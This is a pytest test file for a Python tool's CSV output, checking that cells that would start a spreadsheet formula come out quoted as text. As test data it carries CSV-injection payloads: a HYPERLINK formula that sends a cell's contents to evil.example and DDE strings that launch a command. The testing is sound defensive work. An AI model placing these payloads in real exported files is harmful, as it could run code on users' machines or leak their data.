"""``check --format csv``: no cell can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safeguarding_partnership.cli import main
from safeguarding_partnership.output.text import CSV_COLUMNS, neutralise_cell

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

PLUGIN = '''
from safeguarding_partnership import hookimpl
from safeguarding_partnership.law import Strength
from safeguarding_partnership.law import Regime
from safeguarding_partnership.rules.rule import Issue, rule

PAYLOADS = {payloads!r}


@rule("CSVX-001", "Hostile messages", strength=Strength.MUST, regimes=[Regime.WT2023],
      citations=["=cmd|' /C calc'!A0"], provider="csvx")
def hostile(ctx):
    """Every message is a formula."""
    for text in PAYLOADS:
        yield Issue(text, ("name",))


@hookimpl
def register_rules():
    return [hostile]
'''

SMALL = """\
id: "leeds"
name: "=HYPERLINK(\\"https://evil.example\\")"
areas: [{code: E08000035, name: Leeds}]
"""


def _csv(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, list[list[str]]]:
    with pytest.raises(SystemExit) as exit_info:
        main(["check", "--format", "csv", "--as-of", "2024-06-01", *args])
    out = capsys.readouterr().out
    assert isinstance(exit_info.value.code, int)
    return exit_info.value.code, list(csv.reader(io.StringIO(out)))


def test_findings_that_are_formulas_come_out_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plugin = tmp_path / "csvx.py"
    plugin.write_text(PLUGIN.format(payloads=PAYLOADS), encoding="utf-8")
    arrangements = tmp_path / "leeds.yaml"
    arrangements.write_text(SMALL, encoding="utf-8")
    code, rows = _csv(capsys, str(arrangements), "--plugin", str(plugin))
    assert code == 1  # the must-rule found errors
    header, *body = rows
    assert tuple(header) == CSV_COLUMNS
    for row in body:
        assert len(row) == len(CSV_COLUMNS)
        for cell in row:
            assert not cell.startswith(DANGEROUS), row
    ours = [dict(zip(header, row, strict=True)) for row in body if row[2] == "CSVX-001"]
    assert sorted(r["message"] for r in ours) == sorted("'" + p for p in PAYLOADS)
    assert {r["citation"] for r in ours} == {"'=cmd|' /C calc'!A0"}
    assert {r["file"] for r in ours} == {str(arrangements)}
    assert all(r["line"].isdigit() for r in ours)


def test_load_errors_are_rows_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text("id: x\n=evil: 1\n", encoding="utf-8")
    code, rows = _csv(capsys, str(path))
    assert code == 2
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert records and {r["kind"] for r in records} == {"load error"}
    assert {r["file"] for r in records} == {str(path)}
    assert any("'=evil'" in r["message"] for r in records)  # quoted inside: not at the start
    assert all(not cell.startswith(DANGEROUS) for row in rows for cell in row)


@given(st.text(max_size=30))
def test_neutralise_cell(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(DANGEROUS)
    assert cell == text or cell == "'" + text  # nothing else changes
    assert (cell != text) == text.startswith(DANGEROUS)


def test_numbers_are_not_quoted() -> None:
    assert neutralise_cell(-3) == "-3"
    assert neutralise_cell(None) == ""


def test_plugin_and_rule_failures_are_rows(tmp_path: Path) -> None:
    import datetime as dt

    from safeguarding_partnership import hookimpl
    from safeguarding_partnership.output.text import render_check
    from safeguarding_partnership.pipeline import check_path

    class Faulty:
        @staticmethod
        @hookimpl
        def register_groups(arrangement: object, settings: object) -> None:
            raise RuntimeError("=boom")

    path = tmp_path / "leeds.yaml"
    path.write_text(SMALL.replace('id: "leeds"', 'id: "leeds"\nplugins: [faulty]'), "utf-8")
    run = check_path(path, as_of=dt.date(2024, 6, 1), plugin_objects={"faulty": Faulty})
    rows = list(csv.DictReader(io.StringIO(render_check(run, "csv"))))
    (failure,) = [r for r in rows if r["kind"] == "plugin failure"]
    assert failure["provider"] == "faulty" and "RuntimeError: =boom" in failure["message"]
    assert {r["kind"] for r in rows} == {"plugin failure", "finding"}
    assert all(not v.startswith(DANGEROUS) for r in rows for v in r.values())
